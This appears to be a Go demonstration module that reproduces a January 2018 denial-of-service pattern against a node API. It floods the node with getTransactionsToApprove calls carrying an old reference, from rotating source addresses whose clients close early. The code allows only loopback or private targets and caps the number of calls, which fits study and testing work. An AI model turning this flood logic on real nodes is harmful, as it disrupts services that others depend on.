package demo

import (
	"context"
	"fmt"
	"net/netip"
	"sync"
	"time"
)

// AttackOptions describe the attack of January 2018: calls of
// getTransactionsToApprove with an old reference, from clients that give up.
type AttackOptions struct {
	Target   netip.AddrPort // zero: the node that Play was given
	Sources  []netip.Addr   // addresses the attackers take in turn
	Rate     float64        // calls per second, evenly spaced; 0: no attack
	Patience time.Duration  // after which the client closes; 0: 3 s
}

// maxAttackCalls ends an attack that was set up without an end.
const maxAttackCalls = 10_000

// attack sends calls until ctx is done and returns how many it sent. It
// refuses any target that is not this machine or a private network: this is a
// demonstration, not a weapon.
func attack(ctx context.Context, o AttackOptions) (sent int, err error) {
	if a := o.Target.Addr(); !a.IsLoopback() && !a.IsPrivate() {
		return 0, fmt.Errorf("refuse to attack %s: not a loopback or private address", o.Target)
	}
	body := fmt.Sprintf(`{"command":"getTransactionsToApprove","depth":15,"reference":%q}`, Reference)
	places := make(chan struct{}, maxInFlight)
	var wg sync.WaitGroup
	defer wg.Wait()
	every := time.NewTicker(max(time.Duration(float64(time.Second)/o.Rate), time.Millisecond))
	defer every.Stop()
	for ; sent < maxAttackCalls; sent++ {
		l := link{target: o.Target, source: pick(o.Sources, sent)}
		select {
		case places <- struct{}{}:
			wg.Go(func() {
				defer func() { <-places }()
				l.do(ctx, "getTransactionsToApprove", body, o.Patience, false)
			})
		case <-ctx.Done():
			return sent, nil
		}
		select {
		case <-every.C:
		case <-ctx.Done():
			return sent + 1, nil
		}
	}
	return sent, nil
}
